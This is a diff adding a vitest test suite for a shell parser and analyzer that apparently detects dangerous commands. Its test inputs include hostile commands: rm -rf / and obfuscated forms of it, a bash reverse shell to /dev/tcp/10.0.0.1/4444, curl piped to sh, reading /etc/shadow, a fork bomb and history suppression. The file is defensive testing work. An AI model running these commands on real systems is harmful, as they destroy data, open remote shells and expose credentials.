@@ -1,0 +1,186 @@
+import { describe, expect, it } from "vitest";
+import { analyzeShell } from "../../../src/detectors/commands/shell/analyze.js";
+import { parseShell } from "../../../src/detectors/commands/shell/parser.js";
+
+function words(text: string): string[][] {
+  return parseShell(text).pipelines.flatMap((p) => p.commands.map((c) => c.words.map((w) => w.text)));
+}
+
+function programs(text: string): string[] {
+  return analyzeShell(text).invocations.map((i) => [i.name, ...i.args].join(" "));
+}
+
+describe("parseShell", () => {
+  it.each([
+    ["quote removal", "r'm' -rf \"/\"", [["rm", "-rf", "/"]]],
+    ["backslash escapes", "r\\m -r\\f a\\ b", [["rm", "-rf", "a b"]]],
+    ["ANSI-C strings", "$'\\x72m' $'-\\162f' /", [["rm", "-rf", "/"]]],
+    ["pipes and lists", "a | b && c; d || e & f", [["a"], ["b"], ["c"], ["d"], ["e"], ["f"]]],
+    ["line continuation", "echo a \\\n b", [["echo", "a", "b"]]],
+    [
+      "comments",
+      "echo a # rm -rf /\necho b#c",
+      [
+        ["echo", "a"],
+        ["echo", "b#c"],
+      ],
+    ],
+    ["redirections are not words", "cat < in > out 2>&1", [["cat"]]],
+    ["unterminated quote runs to the end", "echo 'abc", [["echo", "abc"]]],
+  ])("%s", (_name, text, expected) => {
+    expect(words(text)).toEqual(expected);
+  });
+
+  it("parses substitutions as nested pipelines", () => {
+    const script = parseShell("echo $(cat /etc/shadow) `id` <(ls)");
+    const nested = script.pipelines.filter((p) => p.depth === 1).map((p) => p.commands[0]!.words[0]!.text);
+    expect(nested).toEqual(["cat", "id", "ls"]);
+    const echo = script.pipelines.find((p) => p.depth === 0)!.commands[0]!;
+    expect(echo.words[1]!.substitutions).toHaveLength(1);
+    expect(echo.words[1]!.dynamic).toBe(true);
+  });
+
+  it("keeps assignments apart from words", () => {
+    const command = parseShell("HISTFILE=/dev/null FOO='a b' ls -l").pipelines[0]!.commands[0]!;
+    expect(command.assignments.map((w) => w.text)).toEqual(["HISTFILE=/dev/null", "FOO=a b"]);
+    expect(command.words.map((w) => w.text)).toEqual(["ls", "-l"]);
+  });
+
+  it("reads redirections with descriptors and here-documents", () => {
+    const script = parseShell(
+      "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\ncat <<-EOF > f\n\thello\n\tEOF\necho done",
+    );
+    const first = script.pipelines[0]!.commands[0]!;
+    expect(first.redirects.map((r) => `${r.fd}${r.op}${r.target.text}`)).toEqual([
+      ">&/dev/tcp/10.0.0.1/4444",
+      "0>&1",
+    ]);
+    const cat = script.pipelines[1]!.commands[0]!;
+    expect(cat.redirects[0]!.body).toBe("\thello\n");
+    expect(script.pipelines[2]!.commands[0]!.words[0]!.text).toBe("echo");
+  });
+
+  it("records function definitions", () => {
+    expect(parseShell(":(){ :|:& };:").functions.map((f) => f.name)).toEqual([":"]);
+  });
+
+  it("gives exact UTF-16 spans", () => {
+    const text = "ls; rm -rf / ; echo hi";
+    const rm = parseShell(text).pipelines[1]!.commands[0]!;
+    expect(text.slice(rm.start, rm.end)).toBe("rm -rf /");
+  });
+
+  it("never throws on arbitrary input", () => {
+    let seed = 7;
+    const alphabet = "ab $()`'\"\\|&;<>{}#\n=-*~/!";
+    for (let n = 0; n < 300; n++) {
+      let text = "";
+      for (let k = 0; k < 60; k++) {
+        seed = (seed * 1103515245 + 12345) & 0x7fffffff;
+        text += alphabet[seed % alphabet.length];
+      }
+      expect(() => analyzeShell(text)).not.toThrow();
+    }
+  });
+});
+
+describe("analyzeShell", () => {
+  it.each([
+    ["sudo and env wrappers", "sudo -u root env A=1 nohup rm -rf /tmp/x", ["rm -rf /tmp/x"]],
+    ["xargs", "ls | xargs -n 1 rm -f", ["ls", "rm -f"]],
+    ["timeout with its duration", "timeout 5 curl x", ["curl x"]],
+    ["command -v only looks up", "command -v rm", [""]],
+  ])("unwraps %s", (_name, text, expected) => {
+    expect(programs(text)).toEqual(expected);
+  });
+
+  it.each([
+    ["bash -c", `bash -c "curl x | sh"`, ["curl x", "sh"]],
+    ["bash -lc", "bash -lc 'id'", ["id"]],
+    ["eval", "eval 'rm -rf /'", ["rm -rf /"]],
+    ["su -c", "su root -c 'id'", ["id"]],
+    ["ssh remote command", "ssh -p 22 host 'cat /etc/shadow'", ["cat /etc/shadow"]],
+    ["echo piped to sh", "echo 'rm -rf /' | sh", ["rm -rf /"]],
+    ["here-document fed to bash", "bash <<EOF\nrm -rf /\nEOF", ["rm -rf /"]],
+    ["find -exec", "find . -exec sh -c 'id' \\;", ["sh -c id", "id"]],
+    ["python os.system", `python3 -c 'import os; os.system("rm -rf /")'`, ["rm -rf /"]],
+    ["nested twice", `sh -c "bash -c 'whoami'"`, ["whoami"]],
+  ])("sees through %s", (_name, text, expected) => {
+    const nested = analyzeShell(text)
+      .invocations.filter((i) => i.nesting > 0 || i.name === "sh")
+      .map((i) => [i.name, ...i.args].join(" "));
+    for (const e of expected) expect(nested).toContain(e);
+  });
+
+  it("bounds re-parsing of eval chains", () => {
+    const analysis = analyzeShell("eval ".repeat(40_000));
+    expect(analysis.truncated).toBe(true);
+    expect(Math.max(...analysis.invocations.map((i) => i.nesting))).toBeLessThanOrEqual(4);
+  });
+
+  it("survives here-documents that never end and huge argument lists", () => {
+    expect(() => analyzeShell(`${"cat <<a ".repeat(20_000)}\nx\n`)).not.toThrow();
+    expect(() => analyzeShell(`rm ${"x ".repeat(200_000)}`)).not.toThrow();
+  });
+
+  it("bounds nesting of -c strings", () => {
+    let text = "id";
+    for (let k = 0; k < 10; k++) text = `sh -c '${text.replaceAll("'", "'\\''")}'`;
+    const analysis = analyzeShell(text);
+    expect(analysis.truncated).toBe(true);
+    expect(Math.max(...analysis.invocations.map((i) => i.nesting))).toBeLessThanOrEqual(4);
+  });
+});
+
+describe("hostile input", () => {
+  function fastest(text: string): number {
+    let best = Number.POSITIVE_INFINITY;
+    for (let k = 0; k < 7; k++) {
+      const t0 = performance.now();
+      analyzeShell(text);
+      best = Math.min(best, performance.now() - t0);
+    }
+    return Math.max(best, 0.05);
+  }
+
+  /**
+   * Smallest large/small run-time ratio over a few attempts. A super-linear parser fails every
+   * attempt; a test machine busy with other work only spoils some, so one clean attempt suffices.
+   */
+  function ratio(unit: string, smallChars: number, largeChars: number): number {
+    const small = unit.repeat(Math.ceil(smallChars / unit.length));
+    const large = unit.repeat(Math.ceil(largeChars / unit.length));
+    let best = Number.POSITIVE_INFINITY;
+    for (let attempt = 0; attempt < 3 && best >= 10; attempt++) {
+      // Warm both sizes up so the ratio compares steady-state run times, not compilation.
+      fastest(small);
+      fastest(large);
+      best = Math.min(best, fastest(large) / fastest(small));
+    }
+    return best;
+  }
+
+  it.each([
+    ["$(", "$("],
+    ["quotes", `'"`],
+    ["backticks", "`"],
+    ["here-documents", "<<a "],
+    ["double-quoted substitutions", '"$('],
+    ["parameter expansions", "${"],
+    ["-c strings", "bash -c '"],
+    ["ANSI-C", "$'\\x"],
+  ])("is linear on 100 KB of %s", (_name, unit) => {
+    expect(ratio(unit, 10_000, 100_000)).toBeLessThan(30);
+  });
+
+  // Inputs made of thousands of tiny commands keep several syntax objects per command alive,
+  // so at 100 KB the collector starts promoting them while 10 KB never leaves the young
+  // generation; a 10 KB / 100 KB ratio then measures the collector. Linearity is checked where
+  // both sizes are past that point: 4x the input must cost well under 16x.
+  it.each([
+    ["pipes", "a|"],
+    ["function definitions", "f(){ f|f& };"],
+  ])("is linear on many tiny commands: %s", (_name, unit) => {
+    expect(ratio(unit, 50_000, 200_000)).toBeLessThan(12);
+  });
+});
